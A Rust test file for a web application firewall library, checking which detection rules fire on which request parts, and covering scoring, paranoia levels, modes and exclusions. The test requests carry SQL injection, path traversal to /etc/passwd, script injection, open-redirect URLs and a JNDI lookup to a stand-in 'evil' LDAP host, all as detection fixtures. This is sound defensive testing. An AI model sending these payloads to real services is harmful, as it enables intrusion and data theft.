//! Engine tests over the fixture rules: which rules fire on which targets, paranoia,
//! scoring, modes and exclusions.

mod common;

use common::*;
use palisade_waf::{ExclusionConfig, Policy, PolicyConfig, PolicyError, RuleSet, Verdict};

#[test]
fn fixture_rules_pass_their_embedded_tests() {
    let rs = fixtures();
    let report = rs.run_embedded_tests();
    assert!(report.passed(), "{report}");
    assert!(report.tests >= 40, "{report}");
}

#[test]
fn benign_request_scores_zero() {
    let rs = fixtures();
    let p = default_policy(&rs);
    let i = Req::get("/search?q=O%27Brien+select+a+plan&page=2&sort=name")
        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")
        .header("cookie", "sid=abc123; theme=dark")
        .run(&rs, &p);
    assert_eq!(i.score(), 0, "{:?}", i.matches());
    assert_eq!(i.verdict(&p), Verdict::Allow);
}

#[test]
fn sqli_in_query_arg_fires_on_that_arg() {
    let rs = fixtures();
    let p = default_policy(&rs);
    let i = Req::get("/items?id=1%27%20or%20%271%27%3D%271&x=ok").run(&rs, &p);
    assert_eq!(fired(&i), vec![(1001, "args:id".to_string())]);
    assert_eq!(i.score(), 5);
    assert_eq!(i.verdict(&p), Verdict::Block);
    assert_eq!(i.classes(), vec!["sqli"]);
}

#[test]
fn attacks_fire_in_every_head_target() {
    let rs = fixtures();
    let p = default_policy(&rs);
    let cases: &[(Req, u32, &str)] = &[
        (Req::get("/a/..%2f..%2fetc/passwd"), 3001, "path"),
        (
            Req::get("/").header("cookie", "a=1; sess=1' or '1'='1"),
            1001,
            "cookies:sess",
        ),
        (
            Req::get("/").header("referer", "http://x/?q=<script>alert(1)</script>"),
            2001,
            "headers:referer",
        ),
        (
            Req::get("/").header("user-agent", "sqlmap/1.7"),
            4001,
            "headers:user-agent",
        ),
        (
            Req::get("/").header("x-api-version", "${jndi:ldap://evil/a}"),
            4005,
            "headers:x-api-version",
        ),
        (Req::get("/?%24where=1"), 4004, "args_names:$where"),
    ];
    for (req, id, target) in cases {
        let i = req.run(&rs, &p);
        assert!(
            fired(&i).contains(&(*id, target.to_string())),
            "rule {id} on {target}: got {:?}",
            fired(&i)
        );
    }
}

#[test]
fn a_rule_only_sees_its_targets() {
    let rs = fixtures();
    let p = default_policy(&rs);
    // 4001 looks at the user agent only: the same word in an argument is fine.
    let i = Req::get("/?tool=sqlmap").run(&rs, &p);
    assert!(!ids(&i).contains(&4001));
    // 1001 looks at user-agent and referer, not at other headers.
    let i = Req::get("/").header("x-note", "1' or '1'='1").run(&rs, &p);
    assert!(!ids(&i).contains(&1001), "{:?}", fired(&i));
}

#[test]
fn paranoia_level_filters_rules() {
    let rs = fixtures();
    let req = Req::get("/?q=1%20AND%20SLEEP(5)").method("PROPFIND");
    let p1 = default_policy(&rs);
    let i = req.run(&rs, &p1);
    assert!(
        !ids(&i).contains(&1003) && !ids(&i).contains(&4002),
        "{:?}",
        fired(&i)
    );
    let p2 = policy(&rs, "paranoia: 2");
    let i = req.run(&rs, &p2);
    assert!(ids(&i).contains(&1003), "{:?}", fired(&i));
    assert!(ids(&i).contains(&4002), "{:?}", fired(&i));
    assert_eq!(p1.active_rules() + 2, p2.active_rules());
}

#[test]
fn scoring_adds_each_rule_once_and_threshold_decides() {
    let rs = fixtures();
    // 3001 (critical, 5) + 3002 (error, 4); the same rule on two args counts once.
    let req = Req::get("/?a=../../etc/passwd&b=../x");
    let p = policy(&rs, "threshold: 10");
    let i = req.run(&rs, &p);
    assert_eq!(ids(&i), vec![3001, 3002]);
    assert_eq!(i.score(), 9);
    assert_eq!(i.verdict(&p), Verdict::Allow);
    let p = policy(&rs, "threshold: 9");
    assert_eq!(req.run(&rs, &p).verdict(&p), Verdict::Block);
}

/// In block mode inspection stops once the score reaches the threshold: the verdict is the
/// same, the matches listed are those that got there. `complete_matches`, detect mode and
/// `explain` (every match recorded) inspect everything.
#[test]
fn block_mode_stops_at_the_threshold_unless_complete_matches_are_asked_for() {
    let rs = fixtures();
    // 3001 (critical, 5) fires on `a`, 3002 (error, 4) on `b`.
    let req = Req::get("/?a=../x&b=/etc/passwd");
    // As the gateway inspects (`Req::run` records every match, as `explain` does).
    let run = |p: &Policy| {
        let mut i = palisade_waf::Inspection::new();
        req.run_into(&rs, p, &mut i);
        i
    };
    let p = default_policy(&rs);
    let i = run(&p);
    assert_eq!(ids(&i), vec![3001], "b is never looked at");
    assert_eq!(i.score(), 5);
    assert_eq!(i.verdict(&p), Verdict::Block);
    for cfg in ["complete_matches: true", "mode: detect", "threshold: 10"] {
        let p = policy(&rs, cfg);
        let i = run(&p);
        assert_eq!(ids(&i), vec![3001, 3002], "{cfg}");
        assert_eq!(i.score(), 9, "{cfg}");
    }
    // Below the threshold nothing stops: both count, and block.
    let p = policy(&rs, "threshold: 9");
    let i = run(&p);
    assert_eq!((ids(&i), i.score()), (vec![3001, 3002], 9));
    assert_eq!(i.verdict(&p), Verdict::Block);
    // `explain` records every match whatever the policy.
    let p = default_policy(&rs);
    assert_eq!(ids(&req.run(&rs, &p)), vec![3001, 3002]);
}

#[test]
fn detect_mode_reports_but_does_not_block_and_off_inspects_nothing() {
    let rs = fixtures();
    let req = Req::get("/?q=<script>alert(1)</script>");
    let p = policy(&rs, "mode: detect");
    let i = req.run(&rs, &p);
    assert!(i.score() >= 5);
    assert_eq!(i.verdict(&p), Verdict::Detect);
    let p = policy(&rs, "mode: off");
    let i = req.run(&rs, &p);
    assert_eq!(i.score(), 0);
    assert!(i.matches().is_empty());
    assert_eq!(i.verdict(&p), Verdict::Allow);
}

/// The same attack string placed in each target kind, for the exclusion tests.
fn xss_everywhere() -> Vec<(common::Req, &'static str)> {
    let x = "<script>alert(1)</script>";
    vec![
        (Req::get(&format!("/?comment={}", "%3Cscript%3Ealert(1)%3C/script%3E")), "query"),
        (Req::post("/", "application/x-www-form-urlencoded", format!("comment={x}").as_bytes()), "form"),
        (Req::post("/", "application/json", format!(r#"{{"comment":"{x}"}}"#).as_bytes()), "json"),
        (
            Req::post(
                "/",
                "multipart/form-data; boundary=XyZ",
                format!("--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{x}\r\n--XyZ--\r\n").as_bytes(),
            ),
            "multipart",
        ),
        (Req::post("/", "application/xml", format!("<comment><![CDATA[{x}]]></comment>").as_bytes()), "xml"),
        (Req::get("/").header("cookie", &format!("comment={x}")), "cookie"),
    ]
}

#[test]
fn rule_exclusion_on_a_target_applies_to_every_source_of_that_target() {
    let rs = fixtures();
    let base = default_policy(&rs);
    let excl = policy(
        &rs,
        "exclusions:\n  - {rule_ids: [2001, 2002], targets: [\"args:comment\", \"cookies:comment\"]}\n",
    );
    for (req, label) in xss_everywhere() {
        let before = req.run(&rs, &base);
        assert!(
            ids(&before).iter().any(|id| *id == 2001 || *id == 2002),
            "{label}: attack not detected without exclusion: {:?}",
            fired(&before)
        );
        let after = req.run(&rs, &excl);
        let on_comment: Vec<_> = fired(&after)
            .into_iter()
            .filter(|(id, t)| (*id == 2001 || *id == 2002) && t.ends_with("comment"))
            .collect();
        assert!(
            on_comment.is_empty(),
            "{label}: exclusion ignored: {on_comment:?}"
        );
    }
}

#[test]
fn target_only_exclusion_silences_all_rules_there_but_not_elsewhere() {
    let rs = fixtures();
    let p = policy(&rs, "exclusions:\n  - targets: [\"json:post.body\"]\n");
    let body = br#"{"post":{"body":"1' or '1'='1 <script>x</script>","title":"ok"}}"#;
    let i = Req::post("/", "application/json", body).run(&rs, &p);
    assert!(
        fired(&i).iter().all(|(_, t)| t != "json:post.body"),
        "{:?}",
        fired(&i)
    );
    let body = br#"{"post":{"body":"fine","title":"1' or '1'='1"}}"#;
    let i = Req::post("/", "application/json", body).run(&rs, &p);
    assert!(
        fired(&i).contains(&(1001, "json:post.title".into())),
        "{:?}",
        fired(&i)
    );
}

#[test]
fn rule_and_tag_exclusions_turn_rules_off() {
    let rs = fixtures();
    let req = Req::get("/?q=1%27%20or%20%271%27%3D%271").header("user-agent", "nikto");
    let p = policy(
        &rs,
        "exclusions:\n  - {rule_ids: [1001]}\n  - {tags: [scanner]}\n",
    );
    let i = req.run(&rs, &p);
    assert!(ids(&i).is_empty(), "{:?}", fired(&i));
}

#[test]
fn policy_errors_name_the_problem() {
    let rs = fixtures();
    let cfg = |ex: ExclusionConfig| PolicyConfig {
        exclusions: vec![ex],
        ..PolicyConfig::default()
    };
    let e = Policy::compile(
        &cfg(ExclusionConfig {
            rule_ids: vec![999],
            ..Default::default()
        }),
        &rs,
    );
    assert_eq!(e.err(), Some(PolicyError::UnknownRule(999)));
    let e = Policy::compile(
        &cfg(ExclusionConfig {
            tags: vec!["nope".into()],
            ..Default::default()
        }),
        &rs,
    );
    assert_eq!(e.err(), Some(PolicyError::UnknownTag("nope".into())));
    let e = Policy::compile(
        &cfg(ExclusionConfig {
            targets: vec!["argz:q".into()],
            ..Default::default()
        }),
        &rs,
    );
    assert_eq!(e.err(), Some(PolicyError::UnknownTarget("argz:q".into())));
    let e = Policy::compile(
        &PolicyConfig {
            paranoia: 5,
            ..PolicyConfig::default()
        },
        &rs,
    );
    assert_eq!(
        e.err().map(|e| e.to_string()),
        Some("paranoia 5 out of range (use 1, 2, 3 or 4)".into())
    );
    let bad: Result<PolicyConfig, _> = serde_saphyr::from_str("mode: block\nparanoya: 2\n");
    assert!(bad.is_err(), "unknown policy keys must be errors");
}

#[test]
fn inspection_is_reusable_across_requests() {
    let rs = fixtures();
    let p = default_policy(&rs);
    let mut out = palisade_waf::Inspection::new();
    Req::get("/?q=<script>alert(1)</script>").run_into(&rs, &p, &mut out);
    assert!(out.score() > 0);
    Req::get("/?q=hello").run_into(&rs, &p, &mut out);
    assert_eq!(out.score(), 0);
    assert!(out.matches().is_empty());
    Req::get("/?q=<script>alert(1)</script>").run_into(&rs, &p, &mut out);
    assert!(out.score() > 0);
}

#[test]
fn policy_knows_its_rule_set() {
    let a = fixtures();
    let b = fixtures();
    let p = default_policy(&a);
    assert!(p.is_for(&a));
    assert!(!p.is_for(&b));
}

/// `equals_any` matches a phrase only when it is the whole value (after the rule's
/// transforms), in the query, a form body and a JSON body; the same phrase inside a longer
/// value, or with anything before or after it, does not fire. A phrase that some other value
/// holds as a prefix (`onload` in `onloadeddata`) does not hide the longer phrase.
#[test]
fn equals_any_matches_only_the_whole_value() {
    let src = r#"
class: xss
rules:
  - id: 90001
    name: handler name alone
    description: test rule
    severity: critical
    paranoia: 1
    tags: [attack-xss]
    targets: [args]
    transforms: [lowercase]
    match:
      equals_any: [onload, onloadeddata, onerror]
"#;
    let rs = palisade_waf::RuleSet::from_sources(&[("t.yaml".to_string(), src.to_string())])
        .expect("rule loads");
    let p = default_policy(&rs);
    for (value, want) in [
        ("onload", true),
        ("OnLoad", true),
        ("onloadeddata", true),
        ("onerror", true),
        ("xonload", false),
        ("onloadx", false),
        ("onload%20", false),
        ("the%20onload%20event", false),
        ("onloaded", false),
        ("online", false),
    ] {
        let i = Req::get(&format!("/s?q={value}")).run(&rs, &p);
        assert_eq!(
            ids(&i) == vec![90001],
            want,
            "query value {value:?}: {:?}",
            ids(&i)
        );
        let body = format!("q={value}");
        let i = Req::post("/s", "application/x-www-form-urlencoded", body.as_bytes()).run(&rs, &p);
        assert_eq!(ids(&i) == vec![90001], want, "form value {value:?}");
    }
    let i = Req::post("/s", "application/json", br#"{"a":{"b":["x","onError"]}}"#).run(&rs, &p);
    assert_eq!(ids(&i), vec![90001]);
    let i = Req::post("/s", "application/json", br#"{"a":"onerror handler"}"#).run(&rs, &p);
    assert!(ids(&i).is_empty(), "{:?}", ids(&i));
}

/// `args:<name>` targets read the arguments of that name only (query and form fields, any
/// case) and `json:<key>` targets the JSON values under that key at any depth (the path's last
/// segment), with phrases, factor-gated regexes and anchored regexes alike; other names,
/// argument names themselves, a value that names the argument, a URL nested in another
/// argument's value, and for `args:` a JSON value, do not count. An exclusion by name still
/// removes the rule.
#[test]
fn named_argument_targets_read_only_that_argument() {
    let src = r#"
class: open-redirect
rules:
  - id: 90002
    name: redirect target off-site
    description: test rule
    severity: critical
    paranoia: 1
    tags: [attack-open-redirect]
    targets: ["args:next", "args:return_to", "json:return_to"]
    transforms: [url_decode_repeat, lowercase]
    match:
      regex: '^\s*(?:[a-z][a-z0-9+.-]*:|//)'
  - id: 90003
    name: phrase in one argument
    description: test rule
    severity: critical
    paranoia: 1
    tags: [attack-open-redirect]
    targets: ["args:mode"]
    transforms: [lowercase]
    match:
      contains_any: [debug]
"#;
    let rs = palisade_waf::RuleSet::from_sources(&[("t.yaml".to_string(), src.to_string())])
        .expect("rule loads");
    let p = default_policy(&rs);
    for (query, want) in [
        ("next=https://evil.example", vec![90002]),
        ("Next=%2F%2Fevil.example", vec![90002]),
        ("a=1&RETURN_TO=javascript:alert(1)", vec![90002]),
        ("next=%252F%252Fevil.example", vec![90002]),
        ("mode=Debug", vec![90003]),
        ("next=/dashboard", vec![]),
        ("q=https://evil.example", vec![]),
        ("nextx=https://evil.example", vec![]),
        ("xnext=https://evil.example", vec![]),
        ("https://evil.example=next", vec![]),
        (
            "url=https://app.example/login?next=https://evil.example",
            vec![],
        ),
        ("q=debug", vec![]),
    ] {
        let i = Req::get(&format!("/s?{query}")).run(&rs, &p);
        assert_eq!(ids(&i), want, "query {query:?}");
        let i = Req::post("/s", "application/x-www-form-urlencoded", query.as_bytes()).run(&rs, &p);
        assert_eq!(ids(&i), want, "form {query:?}");
    }
    for (body, want) in [
        (&br#"{"return_to":"https://evil.example"}"#[..], vec![90002]),
        (
            br#"{"user":{"prefs":{"Return_To":"//evil.example"}}}"#,
            vec![90002],
        ),
        (
            br#"{"links":[{"return_to":"https://evil.example"}]}"#,
            vec![90002],
        ),
        // `next` is an `args:` target only.
        (br#"{"next":"https://evil.example"}"#, vec![]),
        (br#"{"return_to":{"url":"https://evil.example"}}"#, vec![]),
        (br#"{"return_to.url":"https://evil.example"}"#, vec![]),
        (
            br#"{"link":"https://app.example/login?next=https://evil.example"}"#,
            vec![],
        ),
        (br#"{"return_to":"/orders/42"}"#, vec![]),
    ] {
        let i = Req::post("/s", "application/json", body).run(&rs, &p);
        assert_eq!(ids(&i), want, "json {}", String::from_utf8_lossy(body));
    }
    let excl = policy(
        &rs,
        "exclusions:\n  - {rule_ids: [90002], targets: [\"args:next\"]}\n",
    );
    let i = Req::get("/s?next=https://evil.example&return_to=//evil.example").run(&rs, &excl);
    assert_eq!(fired(&i), vec![(90002, "args:return_to".to_string())]);
}

/// A rule set larger than the bitsets' inline words (128 rules): the shipped rules plus 150
/// generated ones, each a regex on its own word, with a class gate or a factor. Every generated
/// rule fires on its own word in an argument, on that argument alone, and a benign request
/// fires nothing: the rules past the inline words are selected, scanned, gated and scored
/// like the first ones (the words past the inline ones spill to the heap).
#[test]
fn rule_sets_past_the_inline_bitset_words_work_whole() {
    let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let mut sources: Vec<(String, String)> = std::fs::read_dir(&dir)
        .expect("rules dir")
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .map(|p| {
            let text = std::fs::read_to_string(&p).expect("rule file");
            (p.display().to_string(), text)
        })
        .collect();
    let mut extra = String::from("class: generated\nrules:\n");
    for k in 0..150 {
        // Half gated by a factor (`zqx<k>w`), half needing a `~` as well.
        let regex = if k % 2 == 0 {
            format!("zqx{k}w")
        } else {
            format!("~zqx{k}w")
        };
        extra.push_str(&format!(
            "  - id: {}\n    name: generated {k}\n    description: generated\n    severity: critical\n    paranoia: 1\n    tags: [generated]\n    targets: [args]\n    transforms: [lowercase]\n    match:\n      regex: '{regex}'\n    tests:\n      match: [\"a {regex} b\"]\n      no_match: [\"zqx w\"]\n",
            90_000 + k
        ));
    }
    sources.push(("generated.yaml".into(), extra));
    let rs = RuleSet::from_sources(&sources).unwrap_or_else(|e| panic!("{e}"));
    let p = default_policy(&rs);
    let clean = Req::get("/search?q=running+shoes&page=2&note=see+~home")
        .header("cookie", "sid=3f9a1c0e7b2d4a6f; theme=dark")
        .run(&rs, &p);
    assert!(fired(&clean).is_empty(), "{:?}", fired(&clean));
    for k in [0u32, 1, 64, 99, 127, 128, 149] {
        let word = if k % 2 == 0 {
            format!("ZQX{k}W")
        } else {
            format!("%7Ezqx{k}w")
        };
        let i = Req::get(&format!("/search?q=shoes&v=a+{word}+b&page=2")).run(&rs, &p);
        assert_eq!(
            fired(&i),
            vec![(90_000 + k, "args:v".to_string())],
            "generated rule {k}"
        );
    }
}

/// Common header names are inspected once, when the policy is compiled, and skipped in
/// requests only when they matched nothing: a rule on the name `accept` (one of them) still
/// fires in a request, unless the policy excludes it; a rule on an uncommon name fires too.
#[test]
fn common_header_names_are_skipped_only_when_the_policy_finds_them_clean() {
    let rule = |id: u32, name: &str| {
        format!("  - id: {id}\n    name: {name} as a header name\n    description: test\n    severity: critical\n    paranoia: 1\n    tags: [generated]\n    targets: [header_names]\n    transforms: [lowercase]\n    match:\n      regex: '^{name}$'\n    tests:\n      match: [{name}]\n      no_match: [{name}s]\n")
    };
    let src = format!(
        "class: generated\nrules:\n{}{}",
        rule(91001, "accept"),
        rule(91002, "x-odd-name")
    );
    let rs =
        RuleSet::from_sources(&[("g.yaml".to_string(), src)]).unwrap_or_else(|e| panic!("{e}"));
    let req = Req::get("/")
        .header("accept", "*/*")
        .header("x-odd-name", "1")
        .header("user-agent", "curl/8");
    let p = default_policy(&rs);
    assert_eq!(ids(&req.run(&rs, &p)), vec![91001, 91002]);
    // The same through the gateway's path (block mode, nothing recorded past the threshold).
    let mut out = palisade_waf::Inspection::new();
    out.set_header_memory(false);
    req.run_into(&rs, &p, &mut out);
    assert!(out.score() >= 5, "{:?}", out.matches());
    // Excluded for the name `accept`: that name is clean under this policy, the other fires.
    let p = policy(
        &rs,
        "exclusions:\n  - rule_ids: [91001]\n    targets: [\"header_names:accept\"]\n",
    );
    assert_eq!(ids(&req.run(&rs, &p)), vec![91002]);
    let p = policy(&rs, "threshold: 10");
    assert_eq!(ids(&req.run(&rs, &p)), vec![91001, 91002]);
}
